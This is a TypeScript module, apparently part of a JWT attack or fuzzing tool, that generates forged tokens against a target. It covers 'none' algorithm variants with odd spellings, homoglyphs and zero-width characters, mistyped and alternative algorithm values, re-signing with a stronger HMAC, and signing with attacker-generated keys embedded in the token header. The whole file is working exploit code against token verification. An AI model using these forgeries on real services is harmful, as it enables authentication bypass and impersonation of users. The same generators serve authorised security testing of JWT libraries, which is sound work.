import { generateKeyPairSync, type KeyObject } from 'node:crypto';
import {
  type AttackTarget,
  claimsOf,
  encode,
  headerOf,
  hmacToken,
  signGenuinely,
  signWith,
  type TokenForgery,
} from './target.js';

const NONE = [
  'none',
  'None',
  'NONE',
  'nOnE',
  'NoNe',
  'nONE',
  'noNe',
  'NOnE',
  ' none',
  'none ',
  'none\u0000',
  'n\u043ene',
  '\u200bnone',
];
const OTHERS = [
  'HS1',
  'HS384',
  'HS512',
  'hs256',
  'Hs256',
  'HS256 ',
  ' HS256',
  'HS-256',
  'HMAC',
  'HMACSHA256',
  'SHA256',
  'HS256,none',
  'RS1',
  'RS256',
  'RS384',
  'RS512',
  'PS256',
  'PS384',
  'PS512',
  'ES256',
  'ES256K',
  'ES384',
  'ES512',
  'EdDSA',
  'eddsa',
  'Ed25519',
  'Ed448',
  'dir',
  'A256KW',
  'RSA-OAEP',
  'ECDH-ES',
  'PBES2-HS256+A128KW',
  '',
  'null',
  'undefined',
  '*',
  'toString',
  '__proto__',
  'constructor',
];
const MISTYPED: unknown[] = [
  undefined,
  null,
  true,
  false,
  0,
  256,
  [],
  {},
  ['HS256'],
  ['none'],
  { alg: 'HS256' },
  ['HS256', 'none'],
];

/** The `alg` of a header in every spelling, under four kinds of signature. */
export function* algorithmTricks(target: AttackTarget): Generator<TokenForgery> {
  const header = headerOf(target);
  const claims = JSON.stringify(claimsOf(target));
  const family = 'algorithm';
  for (const alg of NONE) {
    const said = JSON.stringify({ ...header, alg });
    const input = `${encode(said)}.${encode(claims)}`;
    yield { family, name: `alg ${JSON.stringify(alg)}, unsigned`, token: `${input}.` };
    yield { family, name: `alg ${JSON.stringify(alg)}, signature "none"`, token: `${input}.none` };
    yield {
      family,
      name: `alg ${JSON.stringify(alg)}, signed genuinely`,
      token: signGenuinely(target, said, claims),
    };
  }
  for (const alg of [...OTHERS, ...MISTYPED].filter((each) => each !== header['alg'])) {
    const said = JSON.stringify({ ...header, alg });
    const name = `alg ${JSON.stringify(alg)}`;
    yield {
      family,
      name: `${name}, signed genuinely`,
      token: signGenuinely(target, said, claims),
    };
    yield { family, name: `${name}, unsigned`, token: `${encode(said)}.${encode(claims)}.` };
  }
}

/** The right algorithm, or a stronger one, with a key of the attacker's own. */
export function* strangersKeys(target: AttackTarget): Generator<TokenForgery> {
  const header = headerOf(target);
  const claims = claimsOf(target);
  for (const [hash, alg] of [
    ['sha256', 'HS256'],
    ['sha384', 'HS384'],
    ['sha512', 'HS512'],
  ] as const) {
    const { signing } = target;
    if (signing.mode === 'jwks' || alg === 'HS256') continue;
    const token = hmacToken({ ...header, alg }, claims, signing.secret, hash);
    yield { family: 'algorithm', name: `${alg} with the real secret`, token };
  }
  for (const { alg, pair } of makePairs()) {
    const jwk = pair.publicKey.export({ format: 'jwk' });
    for (const kid of new Set([undefined, header['kid'], 'attacker'])) {
      const embedded = {
        'nothing embedded': {},
        'it embedded': { jwk },
        'it embedded by name': { jwk: { ...jwk, kid, alg } },
      };
      for (const [how, extra] of Object.entries(embedded)) {
        const said = JSON.stringify({ ...header, alg, kid, ...extra });
        const input = `${encode(said)}.${encode(JSON.stringify(claims))}`;
        yield {
          family: 'wrong key',
          name: `${alg} with a stranger's key, kid ${String(kid)}, ${how}`,
          token: `${input}.${encode(signWith(pair.privateKey, alg, input))}`,
        };
      }
    }
  }
}

function makePairs(): { alg: string; pair: { publicKey: KeyObject; privateKey: KeyObject } }[] {
  const rsa = generateKeyPairSync('rsa', { modulusLength: 2048 });
  return [
    { alg: 'EdDSA', pair: generateKeyPairSync('ed25519') },
    { alg: 'ES256', pair: generateKeyPairSync('ec', { namedCurve: 'P-256' }) },
    { alg: 'RS256', pair: rsa },
    { alg: 'PS256', pair: rsa },
  ];
}
